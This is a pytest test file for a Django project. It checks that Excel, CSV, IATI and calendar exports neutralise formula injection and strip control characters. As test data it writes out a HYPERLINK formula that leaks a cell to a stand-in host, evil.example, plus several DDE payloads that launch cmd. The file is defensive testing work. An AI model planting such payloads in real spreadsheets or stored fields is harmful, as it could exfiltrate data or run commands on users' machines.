"""Stored text that attacks the downloads (issue 14, M1 and M2): a formula in a note stays words
in the workbook and the CSV files, and a control character already in the database breaks none of
the workbook, the IATI file and the calendar feed. The records are written straight to the
database, as data stored before the input rules (or through the admin) would be."""

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import frictionless
import openpyxl
import pytest
from django.urls import reverse
from icalendar import Calendar
from lxml import etree

from silkroutes.core.models import Citation
from silkroutes.exports.iati import schema_errors
from silkroutes.meetings.models import Meeting
from silkroutes.programme.models import Project
from tests.factories import FundingRecordFactory, IndicatorFactory, MeetingFactory, ResultFactory

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.exports.urls")]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def srp() -> Project:
    return Project.objects.get(slug="silk-routes-partnership")


def funding_cell(book, note: str):
    sheet = book["Funding"]
    notes = [cell for (cell,) in sheet.iter_rows(min_col=9, max_col=9, min_row=2)]
    (cell,) = [c for c in notes if c.value == note]
    return cell


def test_a_formula_in_a_pledge_note_is_a_text_cell_of_the_workbook(client):
    FundingRecordFactory(project=srp(), note=HYPERLINK)

    response = client.get(reverse("data:xlsx"))

    cell = funding_cell(openpyxl.load_workbook(io.BytesIO(response.getvalue())), HYPERLINK)
    assert cell.data_type == "s"  # a string, not "f" (a formula Excel would run)
    assert cell.quotePrefix  # and Excel keeps it text when someone edits the cell


def test_a_vertical_tab_in_a_note_does_not_break_the_workbook(client):
    FundingRecordFactory(project=srp(), note="Paid in two parts\x0bthe second in May")

    response = client.get(reverse("data:xlsx"))

    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    assert funding_cell(book, "Paid in two parts\nthe second in May").data_type == "s"


def package(client) -> tuple[dict[str, list[dict]], dict]:
    content = client.get(reverse("data:opendata")).getvalue()
    archive = zipfile.ZipFile(io.BytesIO(content))
    tables = {
        name.removeprefix("data/").removesuffix(".csv"): list(
            csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
        )
        for name in archive.namelist()
        if name.endswith(".csv")
    }
    return tables, json.loads(archive.read("datapackage.json"))


@pytest.fixture
def formulas_everywhere():
    """A payload with each of the six leading characters, in text columns of five tables."""
    FundingRecordFactory(key="hostile-note", project=srp(), note=HYPERLINK)
    Meeting.objects.filter(slug="som-2015").update(city="+cmd|' /C calc'!A0")
    Project.objects.filter(slug="desir").update(description_en="-2+3+cmd|' /C calc'!A0")
    ResultFactory(key="hostile-result", project=srp(), title="@SUM(1+1)*cmd|' /C calc'!A0")
    citation = Citation.objects.filter(content_type__model="meeting").order_by("pk").first()
    Citation.objects.filter(pk=citation.pk).update(quote="\t=1+1")
    IndicatorFactory(
        result=ResultFactory(project=srp(), title="\r=1+1"), baseline=Decimal("-5"), title="x"
    )


def test_every_csv_of_the_package_neutralises_cells_a_spreadsheet_would_run(
    client, formulas_everywhere, tmp_path
):
    tables, descriptor = package(client)

    schemas = {r["name"]: r["schema"]["fields"] for r in descriptor["resources"]}
    for table, rows in tables.items():
        texts = [f["name"] for f in schemas[table] if f["type"] == "string"]
        for row in rows:
            assert not any((row[name] or "").startswith(TRIGGERS) for name in texts), (table, row)
    funding = {r["key"]: r for r in tables["funding_records"]}
    assert funding["hostile-note"]["note"] == "'" + HYPERLINK
    meeting = next(r for r in tables["meetings"] if r["slug"] == "som-2015")
    assert meeting["city"] == "'+cmd|' /C calc'!A0"
    assert "'\t=1+1" in [c["quote"] for c in tables["citations"]]
    assert "'\n=1+1" in [r["title"] for r in tables["results"]]  # a lone CR would end the row
    # A number column means what it meant: a negative baseline stays a number.
    assert "-5.00" in [i["baseline"] for i in tables["indicators"]]
    assert "apostrophe (')" in descriptor["description"]


def test_the_package_with_neutralised_cells_is_still_valid(client, formulas_everywhere, tmp_path):
    content = client.get(reverse("data:opendata")).getvalue()
    zipfile.ZipFile(io.BytesIO(content)).extractall(tmp_path)

    report = frictionless.validate(tmp_path / "datapackage.json")

    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_a_form_feed_in_a_note_does_not_break_the_iati_file(client):
    FundingRecordFactory(
        project=srp(),
        kind="commitment",
        date=dt.date(2016, 5, 1),
        date_precision="day",
        note="Paid in two parts\x0cthe second in May",
    )

    response = client.get(reverse("data:iati"))
    content = response.getvalue()

    assert response.status_code == 200
    assert b"\x0c" not in content
    assert schema_errors(content) == []
    narratives = etree.fromstring(content).iter("narrative")
    assert "Paid in two parts\nthe second in May" in [n.text for n in narratives]


def test_control_characters_of_a_meeting_do_not_reach_the_calendar_feed(client):
    MeetingFactory(
        slug="hostile-meeting",
        title="Working group\x0bon the Silk Routes",
        date=dt.date(2016, 3, 1),
        date_precision="day",
        city="Kabul\x0c",
        description="Agenda\x0bto follow\x01",
    )

    response = client.get("/calendar/timetable.ics")

    assert response.status_code == 200
    assert not any(byte in response.content for byte in (b"\x0b", b"\x0c", b"\x01"))
    (event,) = [
        e for e in Calendar.from_ical(response.content).walk("VEVENT") if "hostile" in e["UID"]
    ]
    assert str(event["SUMMARY"]) == "Working group on the Silk Routes"
    assert str(event["LOCATION"]) == "Kabul"
    assert "Agenda\nto follow" in str(event["DESCRIPTION"])
